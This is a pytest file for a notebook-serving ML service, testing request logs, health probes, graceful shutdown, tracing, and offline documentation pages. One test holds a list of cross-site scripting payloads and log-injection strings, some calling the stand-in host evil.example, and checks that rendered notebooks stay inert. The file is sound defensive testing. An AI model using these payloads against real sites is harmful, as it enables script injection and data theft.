"""A service as it is operated: its log of requests, traces, probes, the end, and pages without internet."""

from __future__ import annotations

import json
import signal
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import replace
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import CHROMIUM
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from operating import (
    BODY,
    Served,
    connect,
    exchange,
    head,
    json_lines,
    receive_all,
    served,
    status,
    statuses,
    stop,
)
from running import wait_for

from nbprod.serve.notebook_page import notebook_html
from nbprod.serve.prediction_log import predictions
from nbprod.serve.service import notebook_page
from nbprod.settings import load_settings

SCREENSHOTS = Path(__file__).resolve().parent.parent / "build"


@pytest.fixture(scope="module")
def service(
    bento: str, tmp_path_factory: pytest.TempPathFactory, free_port: Callable[[], int]
) -> Iterator[Served]:
    """A service that writes about errors, and about no other request."""
    folder = tmp_path_factory.mktemp("service")
    with served(bento, folder, free_port(), NBPROD_ACCESS_LOG="0") as service:
        yield service


# The log of requests


def test_errors_are_logged_in_lines_that_nobody_forges(service: Served) -> None:
    forged = '/x%0a{"path":%20"/forged",%20"status":%20200}'
    identity = 'order-1"}\x9b2J'
    assert status(service.port, "/predict", "POST", BODY) == 200
    assert status(service.port, forged, x_request_id=identity) == 404
    assert status(service.port, "/predict", "POST", b"{", x_request_id="order-2") == 400
    lines = wait_for(lambda: len(found := json_lines(service.printed())) >= 2 and found, "two lines")
    assert [line["status"] for line in lines] == [404, 400], "a request that was answered is not among them"
    assert lines[0]["path"] == r'/x\n{"path": "/forged", "status": 200}' and "forged" not in lines[1]["path"]
    assert lines[1]["request"] == "order-2" and lines[1]["method"] == "POST" and lines[1]["bytes"] > 20
    assert "\x9b" not in service.printed()


# Probes and the end


def test_probes_answer_in_json_and_text(service: Served) -> None:
    assert [status(service.port, path) for path in ("/livez", "/readyz", "/healthz")] == [200, 200, 200]
    assert status(service.port, "/readyz", "POST", b"{}") == 405


class Load:
    """Clients that ask until nobody answers: what each request came to, and the ids of those answered."""

    def __init__(self, port: int, keep: bool) -> None:
        self.port, self.keep = port, keep
        self.outcomes: Counter[str] = Counter()
        self.ids: list[str] = []
        self.ended = threading.Event()

    def run(self) -> None:
        """Ask as one client."""
        while not self.ended.is_set():
            try:
                connection = connect(self.port)
            except OSError:
                self.outcomes["refused"] += 1
                return
            with connection:
                while self.ask(connection) and self.keep and not self.ended.is_set():
                    pass

    def ask(self, connection: Any) -> bool:
        """Ask once; whether the connection can be used again."""
        closing = {} if self.keep else {"connection": "close"}
        data = head("POST", "/predict", content_length=len(BODY), **closing) + BODY
        answer = b""
        with suppress(OSError):
            connection.sendall(data)
            while not answer.endswith(b"}") and (part := connection.recv(1 << 16)):
                answer += part
        if not answer:
            self.outcomes["closed before an answer"] += 1
            return False
        text = answer.partition(b"\r\n\r\n")[2]
        if statuses(answer) == [200] and text.endswith(b"}"):
            self.ids += json.loads(text)["ids"]
            self.outcomes["answered"] += 1
        else:
            self.outcomes[f"broken: {answer!r}"] += 1
        return b"connection: close" not in answer


@pytest.mark.parametrize("keep", [False, True])
def test_a_stop_under_load_loses_no_request(
    bento: str, tmp_path: Path, free_port: Callable[[], int], keep: bool
) -> None:
    """Two workers, sixteen clients: a request is answered whole or not at all, and each answer is logged."""
    with served(bento, tmp_path, free_port(), workers=2) as service:
        load = Load(service.port, keep)
        with ThreadPoolExecutor(16) as pool:
            clients = [pool.submit(load.run) for _ in range(16)]
            wait_for(lambda: load.outcomes["answered"] > 1000, "some load")
            began = time.monotonic()
            assert stop(service) == 0
            assert time.monotonic() - began < 20, "within the time that a platform gives"
            load.ended.set()
        for client in clients:
            client.result()
    assert load.outcomes.pop("answered") == len(load.ids)
    # A connection on which nothing was read yet, or that waits in the system's queue when the last worker
    # ends, is closed without a word: nothing was begun. A client meets each of the two once at most.
    assert {*load.outcomes} <= {"refused", "closed before an answer"}, load.outcomes
    assert load.outcomes["closed before an answer"] <= 2 * 16
    settings = replace(load_settings(tmp_path, required=False), store=tmp_path / "store")
    logged = Counter(predictions("delay", settings=settings)["id"])
    assert logged.keys() >= {*load.ids} and max(logged.values()) == 1


def probe(port: int) -> int | str:
    """The status of /readyz; "none" if it is not told in half a second."""
    try:
        return statuses(exchange(port, head("GET", "/readyz", connection="close"), 0.5))[0]
    except (OSError, IndexError):
        return "none"


def test_it_is_not_ready_from_the_moment_that_it_is_told_to_end(
    bento: str, tmp_path: Path, free_port: Callable[[], int]
) -> None:
    """A request is half sent when the signal comes; it is answered, and its connection is closed."""
    port = free_port()
    with served(bento, tmp_path, port) as service:
        request = head("POST", "/predict", content_length=len(BODY)) + BODY
        with connect(port) as waiting:
            waiting.sendall(request[:-10])
            assert status(port) == 200, "which is answered after the first part of the request was read"
            (worker,) = service.workers()
            worker.send_signal(signal.SIGTERM)
            # Soon nobody listens any more until there is another worker.
            seen = wait_for(lambda: (found := probe(port)) != 200 and found, "it to be not ready", 20)
            assert seen in (503, "none")
            waiting.sendall(request[-10:])
            answer = receive_all(waiting)
            assert statuses(answer) == [200] and b"connection: close" in answer
        wait_for(lambda: [each for each in service.workers() if each.pid != worker.pid], "a new worker")
        wait_for(lambda: status(port) == 200, "it to be ready")


# Traces


class Collector:
    """A collector of traces over OTLP/HTTP: the spans that it was sent."""

    def __init__(self) -> None:
        from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

        self.spans: list[Any] = []
        spans = self.spans

        class Receiver(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                sent = ExportTraceServiceRequest()
                sent.ParseFromString(self.rfile.read(int(self.headers["content-length"])))
                for resource in sent.resource_spans:
                    for scope in resource.scope_spans:
                        spans.extend(scope.spans)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Receiver)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True).start()

    def close(self) -> None:
        """Take no more."""
        self._server.shutdown()
        self._server.server_close()


def test_traces_arrive_and_continue_the_callers(
    bento: str, tmp_path: Path, free_port: Callable[[], int]
) -> None:
    collector = Collector()
    trace, parent = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
    environ = {"OTEL_EXPORTER_OTLP_ENDPOINT": collector.url, "OTEL_BSP_SCHEDULE_DELAY": "200"}
    environ |= {"OTEL_TRACES_SAMPLER": "parentbased_always_off"}
    with served(bento, tmp_path, free_port(), **environ) as service:
        given = {"traceparent": f"00-{trace}-{parent}-01"}
        assert status(service.port, "/predict", "POST", BODY, **given) == 200
        assert status(service.port, "/predict", "POST", BODY) == 200, (
            "its trace begins here, and is not sampled"
        )
        assert status(service.port, "/nowhere", "POST", b"{}", **given) == 404, "which is (other) in a trace"
        wait_for(lambda: len(servers(collector)) >= 2, "two spans", 30)
    found = {span_facts(span) for span in servers(collector)}
    assert found == {("/predict", "200", trace, parent), ("(other)", "404", trace, parent)}
    collector.close()


def servers(collector: Collector) -> list[Any]:
    """The spans of whole requests."""
    return [span for span in collector.spans if span.kind == 2]


def span_facts(span: Any) -> tuple[str, str, str, str]:
    """Path, status, trace and parent of a span."""
    values = {each.key: each.value.string_value or str(each.value.int_value) for each in span.attributes}
    path = values.get("url.path") or values["http.target"]
    code = values.get("http.response.status_code") or values["http.status_code"]
    return path, code, span.trace_id.hex(), span.parent_span_id.hex()


def test_without_a_collector_no_trace_is_made(service: Served) -> None:
    """BentoML tells the id of a request's span, if it has one."""
    with httpx.Client() as client:
        response = client.post(f"{service.url}/predict", content=BODY)
    assert "x-bentoml-request-id" not in response.headers and "trace=" not in service.printed()


# Pages without internet


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Any]:
    """A Chromium."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM)
        yield started
        started.close()


class Visit:
    """A page in a browser that reaches `url` alone: what else it asked for, and what it complained of."""

    def __init__(self, browser: Any, url: str) -> None:
        self.foreign: list[str] = []
        self.said: list[str] = []
        self.page = browser.new_page(viewport={"width": 1100, "height": 1000})

        def check(route: Any) -> None:
            if route.request.url.startswith((url, "data:", "blob:")):
                route.continue_()
            else:
                self.foreign.append(route.request.url)
                route.abort()

        self.page.route("**/*", check)
        self.page.on("console", lambda message: self.said.append(f"{message.type}: {message.text}"))
        self.page.on("pageerror", lambda error: self.said.append(f"pageerror: {error}"))


@pytest.mark.parametrize("path", ["/docs", "/"])
def test_the_docs_are_read_and_tried_without_internet(service: Served, browser: Any, path: str) -> None:
    visit = Visit(browser, service.url)
    page = visit.page
    page.goto(service.url + path)
    page.get_by_text("/predict", exact=True).first.wait_for(timeout=60_000)
    page.locator(".opblock-summary-path a", has_text="/predict").first.click()
    page.get_by_role("button", name="Try it out").first.click()
    page.get_by_role("button", name="Execute").first.click()
    page.locator(".live-responses-table .response-col_status", has_text="200").wait_for(timeout=60_000)
    SCREENSHOTS.mkdir(exist_ok=True)
    page.screenshot(path=SCREENSHOTS / "docs.png")
    page.close()
    assert visit.foreign == []
    assert [line for line in visit.said if line.startswith(("error", "pageerror"))] == []


EVIL, OWN = "https://evil.example", "document.title='owned'"
HOSTILE = f"""
<script>{OWN}; fetch("{EVIL}/script")</script>
<img src=x onerror="{OWN}"><img src="{EVIL}/pixel.png">
<svg onload="{OWN}"><script>{OWN}</script></svg>
<svg><animate onbegin="{OWN}" attributeName=x dur=1s></svg>
<a href="javascript:{OWN}">a link</a>
<a href="data:text/html,<script>alert(1)</script>">another</a>
<iframe src="{EVIL}/frame"></iframe>
<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>
<meta http-equiv="refresh" content="0; url={EVIL}/refresh">
<base href="{EVIL}/"><link rel="stylesheet" href="{EVIL}/style.css">
<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/back.png) }}</style>
<form action="{EVIL}/form"><input name=a autofocus onfocus="{OWN}"><button>send</button></form>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video src="{EVIL}/video" autoplay onloadstart="{OWN}"></video>
<div style="background: url({EVIL}/div.png)" onmouseover="{OWN}">text</div>
<math><mtext><table><mglyph><style><img src=x onerror="{OWN}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={OWN}>"></noscript>
"""


def answer_all(reply: dict[str, Any], route: Any) -> None:
    """Answer whatever a page asks for."""
    route.fulfill(**reply)


def test_a_hostile_notebook_does_nothing_in_a_browser(tmp_path: Path, browser: Any) -> None:
    """As markdown, in every kind of output, in a traceback; under the policy and once more without it."""
    kinds = {"text/html": HOSTILE, "text/markdown": HOSTILE, "image/svg+xml": HOSTILE, "text/latex": HOSTILE}
    outputs = [new_output("display_data", data={kind: text}) for kind, text in kinds.items()]
    outputs += [new_output("display_data", data={"application/javascript": "document.title = 'owned'"})]
    outputs += [new_output("stream", name="stdout", text=HOSTILE)]
    outputs += [new_output("error", ename=HOSTILE, evalue=HOSTILE, traceback=[HOSTILE])]
    cells = [new_markdown_cell("# Training\n" + HOSTILE), new_code_cell(HOSTILE, outputs=outputs)]
    (tmp_path / "notebook.ipynb").write_text(json.dumps(new_notebook(cells=cells)))
    (tmp_path / "notebook.html").write_text(notebook_html(tmp_path / "notebook.ipynb", "delay:1"))
    reply = notebook_page(tmp_path / "notebook.html")
    policy = reply.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy
    for headers in (dict(reply.headers), {"content-type": reply.headers["content-type"]}):
        visit = Visit(browser, "http://service.test/")
        fulfill = {"status": 200, "body": reply.body, "headers": headers}
        visit.page.route("http://service.test/**", partial(answer_all, fulfill))
        visit.page.goto("http://service.test/notebook")
        assert visit.page.get_by_role("heading", name="Training").is_visible()
        for link in visit.page.get_by_text("a link").all():
            link.click(timeout=5_000)
        title = visit.page.title()
        visit.page.close()
        assert visit.foreign == [] and "owned" not in title
